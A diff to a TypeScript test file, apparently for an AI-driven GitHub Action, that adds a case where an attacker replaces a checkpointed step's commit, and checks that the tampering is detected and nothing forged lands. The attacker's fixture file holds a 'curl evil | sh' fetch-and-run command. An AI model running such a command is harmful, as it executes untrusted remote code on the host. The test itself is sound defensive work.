@@ -362,54 +362,80 @@ describe('steps that run together', () => {
     expect(w.gh.pulls()).toHaveLength(1);
   });
 
-  it('keeps the step a killed job finished and runs only the other when the job runs again', async () => {
-    const approving: { run?: ReturnType<World['startAction']> } = {};
-    let killed = false;
-    const w0: { w?: World; issue?: number } = {};
-    // Step 2 waits until step 1 is committed and named in the checkpoint, then the job dies.
-    const killOnceStep1IsKept: Reply = async () => {
-      const { w, issue } = w0 as { w: World; issue: number };
-      for (let i = 0; i < 600 && !killed; i++) {
-        const kept = botComments(w, issue).some((c) => decodeRunRecord(c)?.batch?.steps.some((f) => f.step === 1));
-        if (kept) {
-          killed = true;
-          approving.run?.kill('SIGKILL');
-        } else await new Promise((resolve) => setTimeout(resolve, 100));
-      }
-      return new Promise<Reply>(() => undefined);
-    };
-    const { w, issue } = await setup({
-      planner: [stagePlan, summary],
-      executor: [
-        ...perStep({
-          1: [write('notes/a.md', 'A\n'), done('Wrote notes/a.md.')],
-          2: [killOnceStep1IsKept],
-        }),
-        // The job that runs again: step 2 alone.
-        ...perStep({ 2: [write('notes/b.md', 'B\n'), done('Wrote notes/b.md.')] }),
-      ],
-    });
-    Object.assign(w0, { w, issue });
-    const planned = await run(w, issue, '/plan write two notes');
-    w.freshCheckout();
-    const approve = commentEvent(w, issue, 'mona', '/approve');
-    approving.run = w.startAction(approve, inputs);
-    const first = await approving.run.done;
-    expect(killed).toBe(true);
-    expect(first.code).not.toBe(0);
+  for (const forged of [false, true])
+    it(
+      forged
+        ? 'runs a finished step again when its ref no longer holds the commit the checkpoint names, and lands nothing of what was put there'
+        : 'keeps the step a killed job finished and runs only the other when the job runs again',
+      async () => {
+        const approving: { run?: ReturnType<World['startAction']> } = {};
+        let killed = false;
+        const w0: { w?: World; issue?: number } = {};
+        // Step 2 waits until step 1 is committed and named in the checkpoint, then the job dies.
+        const killOnceStep1IsKept: Reply = async () => {
+          const { w, issue } = w0 as { w: World; issue: number };
+          for (let i = 0; i < 600 && !killed; i++) {
+            const kept = botComments(w, issue).some((c) => decodeRunRecord(c)?.batch?.steps.some((f) => f.step === 1));
+            if (kept) {
+              killed = true;
+              approving.run?.kill('SIGKILL');
+            } else await new Promise((resolve) => setTimeout(resolve, 100));
+          }
+          return new Promise<Reply>(() => undefined);
+        };
+        const stepTwo = [write('notes/b.md', 'B\n'), done('Wrote notes/b.md.')];
+        const { w, issue } = await setup({
+          planner: [stagePlan, summary],
+          executor: [
+            ...perStep({
+              1: [write('notes/a.md', 'A\n'), done('Wrote notes/a.md.')],
+              2: [killOnceStep1IsKept],
+            }),
+            // The job that runs again: step 2 alone, or both where step 1's ref was tampered with.
+            ...perStep(
+              forged
+                ? { 1: [write('notes/a.md', 'A\n'), done('Wrote notes/a.md again.')], 2: stepTwo }
+                : { 2: stepTwo },
+            ),
+          ],
+        });
+        Object.assign(w0, { w, issue });
+        const planned = await run(w, issue, '/plan write two notes');
+        w.freshCheckout();
+        const approve = commentEvent(w, issue, 'mona', '/approve');
+        approving.run = w.startAction(approve, inputs);
+        const first = await approving.run.done;
+        expect(killed).toBe(true);
+        expect(first.code).not.toBe(0);
+        const ref = `refs/plangate/steps/${planned.outputs['plan-id']}/1`;
+        expect(git(w.origin, 'for-each-ref', '--format=%(refname)', ref)).toBe(ref);
+        if (forged) {
+          // Anyone who may push puts a commit of their own where the finished step waits for its merge.
+          const theirs = w.pushToOrigin(
+            'attacker',
+            { 'notes/a.md': 'pwned\n', 'evil.sh': 'curl evil | sh\n' },
+            'step 1',
+          );
+          git(w.origin, 'update-ref', ref, theirs);
+        }
 
-    w.freshCheckout();
-    const rerun = await w.runAction(approve, inputs);
-    expect(rerun.outputs.outcome, rerun.stdout + rerun.stderr).toBe('done');
-    // Step 1 ran once, in the killed job; step 2 twice (killed, then finished).
-    const sessions = (step: number) =>
-      w.model.requests.filter((r) => r.model === 'executor' && stepOf(r).step === step && stepOf(r).turn === 0);
-    expect(sessions(1)).toHaveLength(1);
-    expect(sessions(2)).toHaveLength(2);
-    const branch = `refs/heads/plangate/${issue}-${planned.outputs['plan-id']}`;
-    expect(onBranch(w, branch, 'notes/a.md')).toBe('A');
-    expect(onBranch(w, branch, 'notes/b.md')).toBe('B');
-    expect(w.gh.pulls()).toHaveLength(1);
-    expect(w.model.remaining().executor).toBe(0);
-  });
+        w.freshCheckout();
+        const rerun = await w.runAction(approve, inputs);
+        expect(rerun.outputs.outcome, rerun.stdout + rerun.stderr).toBe('done');
+        // Step 1 ran once, in the killed job (twice where its ref was tampered with); step 2 twice (killed, then finished).
+        const sessions = (step: number) =>
+          w.model.requests.filter((r) => r.model === 'executor' && stepOf(r).step === step && stepOf(r).turn === 0);
+        expect(sessions(1)).toHaveLength(forged ? 2 : 1);
+        if (forged)
+          expect(rerun.stdout).toContain('Step 1 of the earlier attempt is no longer where its checkpoint says');
+        expect(sessions(2)).toHaveLength(2);
+        const branch = `refs/heads/plangate/${issue}-${planned.outputs['plan-id']}`;
+        expect(onBranch(w, branch, 'notes/a.md')).toBe('A');
+        expect(onBranch(w, branch, 'notes/b.md')).toBe('B');
+        expect(git(w.origin, 'ls-tree', '-r', '--name-only', branch)).not.toContain('evil.sh');
+        expect(git(w.origin, 'log', '--format=%s', branch)).not.toMatch(/^step 1$/m);
+        expect(w.gh.pulls()).toHaveLength(1);
+        expect(w.model.remaining().executor).toBe(0);
+      },
+    );
 });
